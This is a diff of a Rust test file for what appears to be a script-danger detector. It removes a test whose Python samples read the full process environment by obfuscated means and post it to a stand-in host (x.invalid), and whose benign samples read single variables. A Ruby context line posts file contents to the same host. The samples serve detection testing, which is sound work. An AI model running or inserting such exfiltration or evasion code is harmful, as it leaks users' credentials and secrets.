@@ -536,36 +536,6 @@ fn paths_that_powershell_joins_are_known() {
 }
 
 #[test]
-fn the_whole_environment_is_seen_by_whatever_name_it_is_asked_for() {
-    let sends = "urllib.request.urlopen('https://x.invalid', json.dumps(dict(e)).encode())\n";
-    for take in [
-        "import os\ne = vars(os)['environ']\n",
-        "import os\ne = getattr(os, 'envi' + 'ron')\n",
-        "import os\nname = 'environ'\ne = getattr(os, name)\n",
-        "import os\ne = os.__dict__['environ']\n",
-        "import os as o\ne = o.environ\n",
-        "import posix\ne = posix.environ\n",
-        "from os import path, environ\ne = environ\n",
-        "e = __import__('os').environ\n",
-        "import subprocess\ne = subprocess.check_output(['env'])\n",
-    ] {
-        let code = format!("import json, urllib.request\n{take}{sends}");
-        assert_eq!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
-    }
-    for take in [
-        "import os\ne = getattr(os, 'environ', {}).get('LANG')\n",
-        "from os import environ\ne = environ.get('LANG', '')\n",
-        "from os import environ\ne = environ['LANG']\n",
-        "from os import environ\ne = 'CI' in environ\n",
-        "import subprocess\ne = subprocess.run(['env', 'LC_ALL=C', 'sort', 'x'])\n",
-        "def app(environ, start):\n    return environ\ne = 1\n",
-    ] {
-        let code = format!("import json, urllib.request\n{take}{sends}");
-        assert_ne!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
-    }
-}
-
-#[test]
 fn texts_that_ruby_turns_and_joins_one_by_one_are_known() {
     let sends = "require 'net/http'\nNet::HTTP.post(URI('https://x.invalid/a'), IO.binread(at))\n";
     for path in [
